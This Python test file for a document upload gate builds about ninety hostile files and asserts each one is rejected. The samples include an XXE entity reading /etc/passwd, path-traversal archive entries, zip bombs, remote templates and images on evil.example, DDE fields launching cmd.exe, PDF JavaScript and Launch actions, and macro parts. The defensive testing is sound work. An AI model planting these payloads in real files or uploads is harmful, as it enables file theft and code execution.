"""S15: at least sixty files that must not come in."""

import io
import struct
import zipfile

import pytest

from opora.foundation.documents import gate
from opora.foundation.documents.gate import Reason
from opora.foundation.documents.tests import make

R = Reason
NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def _many() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as pack:
        for number in range(2_100):
            pack.writestr(f"{number}.txt", "")
    return out.getvalue()


def _lying_size() -> bytes:
    """The directory declares a gigabyte."""
    content = bytearray(make.word())
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 1 << 30)
    return bytes(content)


def _overlapping() -> bytes:
    """Two directory rows point at the same place."""
    content = bytearray(make.word())
    last = content.rindex(b"PK\x01\x02")
    content[last + 42 : last + 46] = struct.pack("<I", 0)
    return bytes(content)


def _encrypted_entry() -> bytes:
    content = bytearray(make.word())
    place = content.rindex(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def _damaged() -> bytes:
    content = bytearray(make.word("а" * 5000))
    for place in range(200, 260):
        content[place] ^= 0xFF
    return bytes(content)


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as pack:
        pack.writestr("[Content_Types].xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            pack.writestr("[Content_Types].xml", "<a/>")
    return out.getvalue()


def _relation(kind: str, target: str) -> bytes:
    return make.with_relation(make.word(), kind, target)


def _field(words: str) -> bytes:
    return make.with_text(make.word(), f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>")


def _sheet(xml: str) -> bytes:
    return make.with_text(make.excel(), xml, "xl/worksheets/sheet1.xml", "</sheetData>")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
HOSTILE = {
    "program.exe": (lambda: b"MZ" + b"\0" * 100, R.KIND),
    "page.html": (lambda: b"<script>1</script>", R.KIND),
    "picture.svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", R.KIND),
    "macro.docm": (make.word, R.KIND),
    "macro.xlsm": (make.excel, R.KIND),
    "archive.zip": (make.word, R.KIND),
    "none": (lambda: b"x", R.KIND),
    "double.pdf.exe": (make.raw_pdf, R.KIND),
    "nul.pdf\x00.docx": (make.word, R.KIND),
    "empty.pdf": (lambda: b"", R.EMPTY),
    "huge.pdf": (lambda: make.raw_pdf() + b"\0" * (20 * 1024 * 1024), R.TOO_LARGE),
    "exe.docx": (lambda: b"MZ" + b"\0" * 500, R.NOT_WHAT_IT_SAYS),
    "text.docx": ("просто текст".encode, R.NOT_WHAT_IT_SAYS),
    "pdf.docx": (make.raw_pdf, R.NOT_WHAT_IT_SAYS),
    "xlsx.docx": (make.excel, R.NOT_WHAT_IT_SAYS),
    "docx.xlsx": (make.word, R.NOT_WHAT_IT_SAYS),
    "docx.odt": (make.word, R.NOT_WHAT_IT_SAYS),
    "odt.docx": (make.odt, R.NOT_WHAT_IT_SAYS),
    "old.docx": (lambda: OLE, R.NOT_WHAT_IT_SAYS),
    "locked.docx": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), R.LOCKED),
    "locked_entry.docx": (_encrypted_entry, R.LOCKED),
    "prefix.docx": (lambda: b"MZ prefix" + make.word(), R.NOT_WHAT_IT_SAYS),
    "cut.docx": (lambda: make.word()[:2000], R.BROKEN),
    "damaged.docx": (_damaged, R.BROKEN),
    "twice.docx": (_twice, R.BROKEN),
    "slip.docx": (lambda: make.with_part(make.word(), "../../etc/cron.d/x", "x"), R.BROKEN),
    "absolute.docx": (lambda: make.with_part(make.word(), "/etc/passwd", "x"), R.BROKEN),
    "drive.docx": (lambda: make.with_part(make.word(), "C:/x", "x"), R.BROKEN),
    "link.docx": (
        lambda: make.with_part(make.word(), "word/l", "/etc/passwd", external_attr=0xA1FF0000),
        R.BROKEN,
    ),
    "many.docx": (_many, R.BOMB),
    "bomb.docx": (lambda: make.with_part(make.word(), "word/media/b.png", b"\0" * 30_000_000), R.BOMB),
    "bomb.xlsx": (lambda: make.with_part(make.excel(), "xl/media/b.png", b"\0" * 12_000_000), R.BOMB),
    "bomb.odt": (lambda: make.odt({"Pictures/b.png": "\0" * 12_000_000}), R.BOMB),
    "lying.docx": (_lying_size, R.BOMB),
    "overlap.docx": (_overlapping, R.BOMB),
    "vba.docx": (lambda: make.with_part(make.word(), "word/vbaProject.bin", b"x"), R.MACRO),
    "vba.xlsx": (lambda: make.with_part(make.excel(), "xl/vbaProject.bin", b"x"), R.MACRO),
    "sheet_macro.xlsx": (lambda: make.with_part(make.excel(), "xl/macrosheets/sheet1.xml", "<a/>"), R.MACRO),
    "activex.docx": (lambda: make.with_part(make.word(), "word/activeX/activeX1.xml", "<a/>"), R.MACRO),
    "ole.docx": (lambda: make.with_part(make.word(), "word/embeddings/oleObject1.bin", OLE), R.MACRO),
    "hidden_ole.docx": (lambda: make.with_part(make.word(), "word/media/image9.png", OLE), R.MACRO),
    "hidden_exe.docx": (lambda: make.with_part(make.word(), "word/media/image9.png", b"MZ\x90"), R.MACRO),
    "inside.docx": (lambda: make.with_part(make.word(), "word/media/run.vbs", "x"), R.MACRO),
    "ribbon.xlsx": (lambda: make.with_part(make.excel(), "customUI/customUI.xml", "<a/>"), R.MACRO),
    "renamed_macro.docx": (
        lambda: make.with_part(
            make.word(),
            "[Content_Types].xml",
            make.part_of(make.word(), "[Content_Types].xml")
            .decode()
            .replace(make.WORD_TYPES, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        R.MACRO,
    ),
    "basic.odt": (lambda: make.odt({"Basic/Standard/Module1.xml": "<a/>"}), R.MACRO),
    "python.odt": (lambda: make.odt({"Scripts/python/x.py": "import os"}), R.MACRO),
    "listener.odt": (lambda: make.odt(body='<script:event-listener script:event-name="x"/>'), R.MACRO),
    "script.odt": (lambda: make.odt(body='<text:script script:language="js">x</text:script>'), R.MACRO),
    "xxe.docx": (lambda: make.with_part(make.word(), "word/settings.xml", DTD), R.ENTITY),
    "xxe16.docx": (lambda: make.with_part(make.word(), "word/x.xml", DTD.encode("utf-16")), R.ENTITY),
    "laughs.xlsx": (
        lambda: make.with_part(
            make.excel(),
            "xl/sharedStrings.xml",
            '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>',
        ),
        R.ENTITY,
    ),
    "dtd.odt": (lambda: make.odt({"styles.xml": DTD}), R.ENTITY),
    "not_xml.docx": (lambda: make.with_part(make.word(), "word/settings.xml", "<a><b></a>"), R.BROKEN),
    "template.docx": (lambda: _relation("attachedTemplate", "https://evil.example/t.dotm"), R.CALLS_OUT),
    "template_share.docx": (lambda: _relation("attachedTemplate", "\\\\evil\\t.dotm"), R.CALLS_OUT),
    "image.docx": (lambda: _relation("image", "https://evil.example/pixel.png"), R.CALLS_OUT),
    "frame.docx": (lambda: _relation("frame", "https://evil.example/"), R.CALLS_OUT),
    "object.docx": (lambda: _relation("oleObject", "https://evil.example/x!"), R.CALLS_OUT),
    "js_link.docx": (lambda: _relation("hyperlink", "javascript:alert(1)"), R.CALLS_OUT),
    "file_link.docx": (lambda: _relation("hyperlink", "file://server/share"), R.CALLS_OUT),
    "dde.docx": (lambda: _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), R.CALLS_OUT),
    "include.docx": (lambda: _field('INCLUDEPICTURE "http://evil.example/x.png"'), R.CALLS_OUT),
    "simple.docx": (lambda: make.with_text(make.word(), '<w:fldSimple w:instr="DDE excel"/>'), R.CALLS_OUT),
    "dde.xlsx": (lambda: _sheet("<row r='9'><c r='A9'><f>cmd|'/c calc'!A0</f></c></row>"), R.CALLS_OUT),
    "web.xlsx": (
        lambda: _sheet("<row r='9'><c r='A9'><f>WEBSERVICE(\"http://x\")</f></c></row>"),
        R.CALLS_OUT,
    ),
    "external.xlsx": (
        lambda: make.with_part(
            make.excel(),
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships><Relationship Id="r" Type="http://x/externalLinkPath" Target="file:///x.xlsx" '
            'TargetMode="External"/></Relationships>',
        ),
        R.CALLS_OUT,
    ),
    "image.odt": (
        lambda: make.odt(body='<draw:image xlink:href="https://evil.example/p.png"/>'),
        R.CALLS_OUT,
    ),
    "object.odt": (lambda: make.odt(body='<draw:object xlink:href="file:///etc/passwd"/>'), R.CALLS_OUT),
    "macro_link.odt": (
        lambda: make.odt(body='<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'),
        R.CALLS_OUT,
    ),
    "html.pdf": (lambda: b"<html>" * 30, R.NOT_WHAT_IT_SAYS),
    "late.pdf": (lambda: b"GIF89a" + make.raw_pdf(), R.NOT_WHAT_IT_SAYS),
    "cut.pdf": (lambda: make.pdf()[:800], R.BROKEN),
    "zip.pdf": (lambda: make.raw_pdf() + make.word() + b"%%EOF", R.NOT_WHAT_IT_SAYS),
    "js.pdf": (lambda: make.raw_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), R.ACTIVE),
    "js_hex.pdf": (lambda: make.raw_pdf("/AA << /O << /S /J#61va#53cript /JS (x) >> >>"), R.ACTIVE),
    "js_names.pdf": (lambda: make.raw_pdf("/Names << /JavaScript 7 0 R >>"), R.ACTIVE),
    "js_packed.pdf": (lambda: make.packed_pdf("7 0 << /S /JavaScript /JS (x) >>"), R.ACTIVE),
    "js_plain_stream.pdf": (lambda: make.packed_pdf("7 0 << /S /JavaScript /JS (x) >>", ""), R.ACTIVE),
    "js_odd_filter.pdf": (
        lambda: make.packed_pdf("x", "/Filter [/ASCIIHexDecode /FlateDecode]"),
        R.ACTIVE,
    ),
    "launch.pdf": (lambda: make.raw_pdf(extra="7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"), R.ACTIVE),
    "open.pdf": (lambda: make.raw_pdf("/OpenAction 7 0 R"), R.ACTIVE),
    "attached.pdf": (lambda: make.raw_pdf("/Names << /EmbeddedFiles 7 0 R >>"), R.ACTIVE),
    "xfa.pdf": (lambda: make.raw_pdf("/AcroForm << /XFA 7 0 R >>"), R.ACTIVE),
    "submit.pdf": (
        lambda: make.raw_pdf(extra="7 0 obj\n<< /S /SubmitForm /F (http://x) >>\nendobj"),
        R.ACTIVE,
    ),
    "rich.pdf": (lambda: make.raw_pdf(extra="7 0 obj\n<< /Subtype /RichMedia >>\nendobj"), R.ACTIVE),
    "locked.pdf": (lambda: make.raw_pdf("/Encrypt 7 0 R"), R.LOCKED),
    "pdf.png": (make.raw_pdf, R.NOT_WHAT_IT_SAYS),
    "jpeg.png": (lambda: make.picture("JPEG"), R.NOT_WHAT_IT_SAYS),
    "png.jpg": (make.picture, R.NOT_WHAT_IT_SAYS),
    "gif.png": (lambda: make.picture("GIF"), R.NOT_WHAT_IT_SAYS),
    "html.jpg": (lambda: b"\xff\xd8\xff<script>alert(1)</script>", R.BROKEN),
    "cut.jpg": (lambda: make.picture("JPEG", (400, 300))[:500], R.BROKEN),
    "cut.png": (lambda: make.picture(size=(400, 300))[:60], R.BROKEN),
    "pixels.png": (lambda: make.png_of_declared_size(60_000, 60_000), R.PIXELS),
    "wide.png": (lambda: make.png_of_declared_size(50_000_001, 1), R.PIXELS),
}


def test_there_are_enough_of_them():
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_stays_out(name):
    made, reason = HOSTILE[name]
    verdict = gate.check(name, made())
    assert not verdict.ok
    assert verdict.reason is reason, verdict.detail
    assert verdict.content == b""
    assert verdict.message
